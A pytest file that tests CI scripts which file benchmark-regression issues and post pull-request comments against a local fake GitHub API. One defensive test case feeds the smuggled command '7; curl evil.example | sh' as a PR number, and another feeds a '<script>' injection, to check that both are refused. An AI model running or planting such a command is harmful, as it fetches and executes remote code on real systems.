"""The two scripts that talk to GitHub, run for real against a local stand-in of its REST
API (tests/support/github_standin.py) reached through the workflow's own variables: filing the
triage's regressions as issues, and the PR gate's comment."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support import REPO_ROOT
from tests.support.gate_verdict import verdict
from tests.support.github_standin import TOKEN, github_standin
from tools._lib.verdict.markdown import VERDICTS

SHA = "a" * 40


def run_tool(name: str, *args: str, env: dict, tmp_path: Path):
    summary = tmp_path / "step-summary.md"
    clean = {key: value for key, value in os.environ.items() if not key.startswith("GITHUB_")}
    done = subprocess.run(
        [sys.executable, "-m", f"tools.{name}", *args],
        cwd=REPO_ROOT,
        env={**clean, **env, "GITHUB_STEP_SUMMARY": str(summary)},
        capture_output=True,
        text=True,
        timeout=60,
    )
    return done, (summary.read_text() if summary.exists() else "")


def report(tmp_path: Path, *regressions: dict) -> Path:
    path = tmp_path / "report.json"
    path.write_text(json.dumps({"version": 1, "machine": "m1", "regressions": list(regressions)}))
    return path


def regression(state: str = "open", key: str = "m1|bench_a.A.time_x('cpu')|aaaa..bbbb") -> dict:
    return {
        "key": key,
        "state": state,
        "title": "1.50x slower: bench_a.A.time_x('cpu') at bbbb",
        "body": "**bench_a.A.time_x('cpu')** is 1.50x slower",
        "resolution": "Back.",
    }


@pytest.fixture
def standin():
    with github_standin() as running:
        yield running


def test_a_regression_is_filed_once_and_updated_in_place(standin, tmp_path):
    first, _ = run_tool(
        "file_issues", str(report(tmp_path, regression())), env=standin.env(), tmp_path=tmp_path
    )
    assert first.returncode == 0, first.stderr
    (issue,) = standin.issues.values()
    assert issue["title"].startswith("1.50x slower") and issue["state"] == "open"
    assert [label["name"] for label in issue["labels"]] == ["performance-regression"]
    assert "<!-- tensorops-regression: m1|bench_a.A.time_x('cpu')|aaaa..bbbb -->" in issue["body"]
    assert "performance-regression" in standin.labels
    again, _ = run_tool(
        "file_issues", str(report(tmp_path, regression())), env=standin.env(), tmp_path=tmp_path
    )
    assert again.returncode == 0 and "nothing to file" in again.stdout
    changed = {**regression(), "body": "**bench_a.A.time_x('cpu')** is 1.60x slower"}
    run_tool("file_issues", str(report(tmp_path, changed)), env=standin.env(), tmp_path=tmp_path)
    assert len(standin.issues) == 1 and "1.60x" in issue["body"]
    assert len(standin.calls("POST", r".*/issues")) == 1


def test_a_resolved_regression_is_commented_and_closed(standin, tmp_path):
    run_tool(
        "file_issues", str(report(tmp_path, regression())), env=standin.env(), tmp_path=tmp_path
    )
    done, summary = run_tool(
        "file_issues",
        str(report(tmp_path, regression("resolved"))),
        env=standin.env(),
        tmp_path=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    (issue,) = standin.issues.values()
    assert issue["state"] == "closed"
    assert [c["body"] for c in standin.comments.values()] == ["Back."]
    assert "closed #" in summary


@pytest.mark.parametrize(
    ("failure", "status", "line"),
    [
        ("unreachable", 3, "GitHub unreachable at http://127.0.0.1:9"),
        ("500", 3, "GitHub answered 500 to GET /labels: boom"),
        ("403", 3, "GitHub answered 403 to GET /labels: Resource not accessible"),
        ("no token", 4, "GITHUB_TOKEN is not set"),
    ],
)
def test_github_failing_is_one_line_in_the_log_and_the_step_summary(
    standin, tmp_path, failure, status, line
):
    env = standin.env()
    if failure == "unreachable":
        env["GITHUB_API_URL"] = "http://127.0.0.1:9"
    elif failure == "no token":
        env["GITHUB_TOKEN"] = ""
    else:
        standin.failures.append(
            (int(failure), "boom" if failure == "500" else "Resource not accessible by integration")
        )
    done, summary = run_tool(
        "file_issues", str(report(tmp_path, regression())), env=env, tmp_path=tmp_path
    )
    assert done.returncode == status, done.stdout + done.stderr
    (printed,) = done.stderr.strip().splitlines()
    assert line in printed and line in summary and "the next night retries" in summary
    assert standin.issues == {}


def test_a_malformed_report_is_refused(standin, tmp_path):
    bad = report(tmp_path, {**regression(), "key": "x -->\n<script>"})
    done, _ = run_tool("file_issues", str(bad), env=standin.env(), tmp_path=tmp_path)
    assert done.returncode == 4 and "is not a triage or releases report" in done.stderr
    assert standin.requests == []


def gate_artifact(tmp_path: Path, number, head_sha: str = SHA, status: int = 0) -> Path:
    folder = tmp_path / "gate-summary"
    folder.mkdir(exist_ok=True)
    (folder / "pr.json").write_text(json.dumps({"number": number, "head_sha": head_sha}))
    (folder / "verdict.json").write_text(json.dumps(verdict(status=status)))
    return folder


def test_the_gate_comment_is_created_once_then_edited(standin, tmp_path):
    standin.pulls[7] = {"number": 7, "head": {"sha": SHA}}
    env = standin.env(RUN_HEAD_SHA=SHA)
    first, _ = run_tool("pr_comment", str(gate_artifact(tmp_path, 7)), env=env, tmp_path=tmp_path)
    assert first.returncode == 0 and "commented on #7" in first.stdout, first.stderr
    second, _ = run_tool(
        "pr_comment", str(gate_artifact(tmp_path, 7, status=2)), env=env, tmp_path=tmp_path
    )
    assert second.returncode == 0 and "edited the comment on #7" in second.stdout
    (comment,) = standin.comments.values()
    assert comment["issue"] == 7 and f"## Benchmarks: {VERDICTS[2]}" in comment["body"]
    assert len(standin.calls("POST", r".*/issues/7/comments")) == 1


@pytest.mark.parametrize(
    ("number", "head_sha", "pull_sha", "line"),
    [
        ("7; curl evil.example | sh", SHA, SHA, "PR number is not a number"),
        (True, SHA, SHA, "PR number is not a number"),
        (7, "b" * 40, SHA, "not the run's " + SHA),
        (7, SHA, "c" * 40, "is not at the run's commit"),
    ],
)
def test_a_malformed_or_mismatched_artifact_is_refused(
    standin, tmp_path, number, head_sha, pull_sha, line
):
    standin.pulls[7] = {"number": 7, "head": {"sha": pull_sha}}
    done, _ = run_tool(
        "pr_comment",
        str(gate_artifact(tmp_path, number, head_sha)),
        env=standin.env(RUN_HEAD_SHA=SHA),
        tmp_path=tmp_path,
    )
    assert done.returncode == 4, done.stdout + done.stderr
    (printed,) = done.stderr.strip().splitlines()
    assert line in printed
    assert standin.comments == {}


def test_the_standin_refuses_a_wrong_token(standin, tmp_path):
    done, _ = run_tool(
        "file_issues",
        str(report(tmp_path, regression())),
        env=standin.env(GITHUB_TOKEN=TOKEN + "x"),
        tmp_path=tmp_path,
    )
    assert done.returncode == 3 and "401" in done.stderr and "Bad credentials" in done.stderr
